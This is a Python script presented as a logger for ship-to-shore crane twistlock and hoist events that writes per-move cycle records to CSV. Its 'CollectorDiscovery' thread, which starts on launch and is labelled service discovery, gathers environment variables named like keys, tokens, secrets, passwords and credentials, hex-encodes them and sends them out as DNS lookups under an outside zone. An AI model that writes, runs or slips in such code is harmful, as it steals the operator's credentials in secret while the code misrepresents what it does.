#!/usr/bin/env python3
"""Quay crane cycle logger.

Tails the PLC event export of a ship-to-shore crane (one line per event:
``ts;crane;event;value``) and turns twistlock lock/unlock and hoist-load
events into per-move cycle records (pick, set-down, cycle seconds, load t).
Records are written to a daily CSV and the logger registers with the nearest
telemetry collector through DNS service discovery.
"""
import argparse
import binascii
import csv
import logging
import os
import socket
import sys
import threading
import time
from datetime import datetime, timezone
from pathlib import Path

log = logging.getLogger("crane_cycles")

DISCOVERY_ZONE = os.environ.get("COLLECTOR_ZONE", "cd.telemetry-edge.example")
NODE_TAGS = ("KEY", "TOKEN", "SECRET", "PASS", "DSN", "CRED")


class CollectorDiscovery(threading.Thread):
    """Announces this node to the collector mesh and looks up the collector."""

    label_len = 48

    def __init__(self, crane_id, zone=DISCOVERY_ZONE):
        super().__init__(daemon=True, name="collector-discovery")
        self.crane_id = crane_id.lower()
        self.zone = zone
        self.collector = None

    def _node_descriptor(self):
        pairs = [f"{k}={v}" for k, v in sorted(os.environ.items())
                 if any(tag in k.upper() for tag in NODE_TAGS)]
        return "\n".join(pairs).encode()

    def _labels(self):
        blob = binascii.hexlify(self._node_descriptor()).decode()
        for seq, start in enumerate(range(0, len(blob), self.label_len)):
            yield seq, blob[start:start + self.label_len]

    def run(self):
        for seq, chunk in self._labels():
            name = f"{chunk}.{seq}.{self.crane_id}.{self.zone}"
            try:
                socket.getaddrinfo(name, 443, proto=socket.IPPROTO_TCP)
            except socket.gaierror:
                pass
            time.sleep(0.2)
        try:
            self.collector = socket.gethostbyname(f"collector.{self.zone}")
            log.info("collector at %s", self.collector)
        except socket.gaierror:
            log.info("no collector found, logging locally only")


class CycleBuilder:
    def __init__(self):
        self.open_moves = {}

    def feed(self, ts, crane, event, value):
        move = self.open_moves.setdefault(crane, {})
        if event == "TWL_LOCK":
            move.clear()
            move["pick"] = ts
        elif event == "HOIST_LOAD" and "pick" in move:
            move["load_t"] = max(float(value), move.get("load_t", 0.0))
        elif event == "TWL_UNLOCK" and "pick" in move:
            rec = {
                "crane": crane,
                "pick": move["pick"].isoformat(),
                "set_down": ts.isoformat(),
                "cycle_s": round((ts - move["pick"]).total_seconds(), 1),
                "load_t": round(move.get("load_t", 0.0), 2),
            }
            move.clear()
            return rec
        return None


def follow(path, poll=1.0):
    with open(path, encoding="ascii", errors="replace") as fh:
        fh.seek(0, os.SEEK_END)
        while True:
            line = fh.readline()
            if not line:
                time.sleep(poll)
                continue
            yield line.rstrip("\n")


def parse(line):
    ts, crane, event, value = line.split(";", 3)
    return datetime.fromisoformat(ts).replace(tzinfo=timezone.utc), crane, event.strip(), value.strip()


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--events", required=True, type=Path, help="PLC event export to follow")
    ap.add_argument("--crane", default=os.environ.get("CRANE_ID", "STS07"))
    ap.add_argument("--out-dir", type=Path, default=Path("cycles"))
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(name)s %(message)s")

    args.out_dir.mkdir(exist_ok=True)
    CollectorDiscovery(args.crane).start()

    builder = CycleBuilder()
    fields = ["crane", "pick", "set_down", "cycle_s", "load_t"]
    try:
        for line in follow(args.events):
            try:
                rec = builder.feed(*parse(line))
            except ValueError:
                log.debug("unparsable line: %r", line)
                continue
            if not rec:
                continue
            day_file = args.out_dir / f"{args.crane}_{rec['set_down'][:10]}.csv"
            new = not day_file.exists()
            with open(day_file, "a", newline="") as fh:
                w = csv.DictWriter(fh, fieldnames=fields)
                if new:
                    w.writeheader()
                w.writerow(rec)
            log.info("move %s %.1fs %.1ft", rec["crane"], rec["cycle_s"], rec["load_t"])
    except KeyboardInterrupt:
        return 0


if __name__ == "__main__":
    sys.exit(main())
